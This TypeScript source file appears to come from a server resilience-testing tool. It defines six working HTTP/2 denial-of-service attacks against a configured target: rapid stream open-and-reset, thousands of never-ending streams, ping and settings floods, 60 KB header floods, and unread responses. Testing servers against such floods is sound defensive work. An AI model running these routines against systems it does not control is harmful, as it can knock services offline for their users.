import { type ClientHttp2Session, connect } from "node:http2";
import type { Attack } from "../attack.ts";
import type { Attacker } from "../attacker/attacker.ts";
import { noteClosed } from "../attacker/figures.ts";
import { placeOf } from "../target.ts";

/** An attack on one HTTP/2 connection, a step a turn until time is over. */
function overHttp2(
  number: string,
  title: string,
  step: (session: ClientHttp2Session, path: string) => void,
  most = Number.POSITIVE_INFINITY,
): Attack {
  return {
    id: `ATK-I${number}`,
    title,
    over: "sockets",
    needs: ["http2"],
    async run(attacker) {
      const session = open(attacker);
      const { path } = placeOf(attacker.target.http2!);
      for (let i = 0; i < most && !attacker.signal.aborted; i++) {
        if (session.closed || session.destroyed) break;
        step(session, path);
        if (i % 50 === 49) await new Promise(setImmediate);
      }
      if (most !== Number.POSITIVE_INFINITY) await attacker.wait(1_000);
      session.destroy();
      return undefined;
    },
  };
}

function open({ target, signal, figures }: Attacker): ClientHttp2Session {
  const options = { rejectUnauthorized: false, localAddress: target.localAddress };
  const session = connect(new URL("/", target.http2), options as object);
  let end = "ended";
  figures.opened++;
  session.on("error", (error) => {
    end = error.message;
  });
  session.once("goaway", (code) => {
    end = `GOAWAY ${code}`;
  });
  session.once("close", () => {
    if (!signal.aborted) noteClosed(figures, end);
  });
  signal.addEventListener("abort", () => session.destroy(), { once: true });
  return session;
}

function request(session: ClientHttp2Session, path: string) {
  const stream = session.request({ ":method": "POST", ":path": path });
  stream.on("error", () => {});
  return stream;
}

/** I: HTTP/2 makes requests cheap to start and to drop. */
export const HTTP2: readonly Attack[] = [
  overHttp2("01", "Streams are opened and reset as fast as possible.", (session, path) => {
    request(session, path).close(8);
  }),
  overHttp2(
    "02",
    "10,000 streams are opened and never end.",
    (session, path) => {
      request(session, path);
    },
    10_000,
  ),
  overHttp2("03", "Pings flood the connection.", (session) => {
    session.ping(() => {});
  }),
  overHttp2("04", "Settings flood the connection.", (session) => {
    session.settings({ enablePush: false });
  }),
  overHttp2(
    "05",
    "Headers of 60 KB are sent on each of many streams.",
    (session, path) => {
      const stream = session.request({ ":method": "POST", ":path": path, x: "x".repeat(60_000) });
      stream.on("error", () => {});
      stream.end();
    },
    2_000,
  ),
  overHttp2(
    "06",
    "Responses are asked for and not read.",
    (session, path) => {
      const stream = request(session, path);
      stream.pause();
      stream.end(`["push","${"x".repeat(100_000)}"]\n["pull",1]`);
    },
    500,
  ),
];
